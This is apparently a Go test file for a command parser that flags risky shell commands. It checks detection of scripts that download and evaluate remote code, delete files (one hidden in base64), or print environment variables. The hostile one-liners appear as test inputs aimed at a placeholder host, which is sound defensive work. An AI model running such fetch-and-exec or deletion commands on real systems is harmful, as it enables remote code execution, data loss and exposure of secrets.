package shell

import (
	"strings"
	"testing"
)

// TestEvalDownload checks that code evaluating what it downloads from a
// URL written out is read as that download piped to the language's
// interpreter, and that evaluating local text is not.
func TestEvalDownload(t *testing.T) {
	for _, tc := range []struct{ src, prog string }{
		{`python3 -c "import urllib.request; exec(urllib.request.urlopen('https://x.example/p.py').read())"`, "python3"},
		{`python3 -c "import requests; exec(requests.get('https://x.example/p.py').text)"`, "python3"},
		{`php -r "eval(file_get_contents('https://x.example/p.php'));"`, "php"},
		{`ruby -ropen-uri -e "eval(URI.open('https://x.example/p.rb').read)"`, "ruby"},
		// the text reaches eval through a promise or a variable
		{`node -e "fetch('https://x.example/p.js').then(r => r.text()).then(eval)"`, "node"},
		{`node -e "fetch('https://x.example/p.js').then(r => r.text()).then(t => eval(t))"`, "node"},
		{`python3 -c "import requests; t = requests.get('https://x.example/p.py').text; exec(t)"`, "python3"},
		{`python3 -c "import requests as r; c = compile(r.get('https://x.example/p.py').text, 'x', 'exec'); exec(c)"`, "python3"},
	} {
		res := Parse(tc.src)
		curl, prog := false, false
		for _, c := range res.Commands {
			curl = curl || c.Name == "curl" && strings.Contains(strings.Join(c.Args, " "), "https://x.example/")
			prog = prog || c.Name == tc.prog && c.Synthetic
		}
		if !curl || !prog {
			t.Errorf("Parse(%q) =\n\t%s\nwant the download piped to %s", tc.src, strings.Join(describeAll(res), "\n\t"), tc.prog)
		}
	}
	for _, src := range []string{
		`python3 -c "exec(open('setup.py').read())"`,
		`python3 -c "import json; eval(json.dumps({'u': 'https://pypi.org'}))"`,
		// eval of a literal beside a fetch: the fetched text is not run
		`python3 -c "import requests; print(requests.get('https://pypi.org/simple').status_code, eval('1+1'))"`,
	} {
		for _, c := range Parse(src).Commands {
			if c.Name == "curl" {
				t.Errorf("Parse(%q): %s: no download is evaluated", src, describe(c))
			}
		}
	}
}

// TestNodeVMRuns checks that node's vm module running text is eval: the
// text, decoded, is scanned as code.
func TestNodeVMRuns(t *testing.T) {
	for _, src := range []string{
		`node -e "require('vm').runInThisContext(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJybSAtcmYgL3giKQ==', 'base64').toString())"`,
		`node -e "vm.runInNewContext('require(\"fs\").rmSync(\"/x\", {recursive: true})', {require})"`,
	} {
		found := false
		for _, c := range Parse(src).Commands {
			found = found || c.Name == "rm"
		}
		if !found {
			t.Errorf("Parse(%q) =\n\t%s\nwant its rm", src, strings.Join(describeAll(Parse(src)), "\n\t"))
		}
	}
}

// TestEnvironShownSpellings checks PHP's phpinfo(), which prints every
// variable, and R's Sys.getenv of one name, which prints only that one.
func TestEnvironShownSpellings(t *testing.T) {
	for src, want := range map[string]bool{
		`php -r "phpinfo();"`:                        true,
		`Rscript -e "print(Sys.getenv())"`:           true,
		`Rscript -e "print(Sys.getenv('R_HOME'))"`:   false,
		`Rscript -e 'print(Sys.getenv("R_LIBS"))'`:   false,
		`Rscript -e "print(Sys.getenv(names=TRUE))"`: true,
	} {
		got := false
		for _, c := range Parse(src).Commands {
			got = got || c.Code.EnvironShown
		}
		if got != want {
			t.Errorf("Parse(%q): environment shown %v, want %v", src, got, want)
		}
	}
}

// TestCodeProcessCalls checks the process calls of Python code that the
// name of a call alone does not tell: asyncio's subprocess calls run
// their command, an event loop's run runs none, and a call handed as a
// keyword argument (Process(target=os.system)) is made on arguments
// nobody here reads.
func TestCodeProcessCalls(t *testing.T) {
	for _, src := range []string{
		`python3 -c "import asyncio; asyncio.run(asyncio.create_subprocess_shell('rm -rf /x'))"`,
		`python3 -c "import asyncio; asyncio.run(asyncio.create_subprocess_exec('rm', '-rf', '/x'))"`,
	} {
		found := false
		for _, c := range Parse(src).Commands {
			found = found || c.Name == "rm"
		}
		if !found {
			t.Errorf("Parse(%q) =\n\t%s\nwant its rm", src, strings.Join(describeAll(Parse(src)), "\n\t"))
		}
	}
	for _, src := range []string{
		`python3 -c "import asyncio; asyncio.run(main())"`,
		`python3 -c "import trio; trio.run(main)"`,
	} {
		for _, c := range Parse(src).Commands {
			if len(c.Code.Opaque) > 0 {
				t.Errorf("Parse(%q): %s: an event loop runs no process, got %v", src, describe(c), c.Code.Opaque)
			}
		}
	}
	for _, src := range []string{
		`python3 -c "import multiprocessing as m, os; m.Process(target=os.system, args=(c,)).start()"`,
		`python3 -c "import threading, shutil; threading.Thread(target=shutil.rmtree, args=(p,)).start()"`,
	} {
		opaque := false
		for _, c := range Parse(src).Commands {
			opaque = opaque || len(c.Code.Opaque) > 0
		}
		if !opaque {
			t.Errorf("Parse(%q): want the call handed as a keyword argument opaque", src)
		}
	}
}

// TestImportedURLs checks that JavaScript code loading a module from an
// http(s) URL is read as running that URL's code, and that a package's or
// a file's import is not.
func TestImportedURLs(t *testing.T) {
	for _, tc := range []struct {
		code string
		want []string
	}{
		{`import('https://x.example/m.js')`, []string{"https://x.example/m.js"}},
		{"await import(`https://x.example/m.ts`); go()", []string{"https://x.example/m.ts"}},
		{`import x from "https://x.example/a.js"; import {y} from 'https://x.example/b.js'`, []string{"https://x.example/a.js", "https://x.example/b.js"}},
		{`import fs from 'node:fs'; import('./local.js')`, nil},
		{`const important = 1; reimport('https://x.example/m.js')`, nil},
	} {
		got := importedURLs(tc.code)
		if strings.Join(got, " ") != strings.Join(tc.want, " ") {
			t.Errorf("importedURLs(%q) = %q, want %q", tc.code, got, tc.want)
		}
	}
}
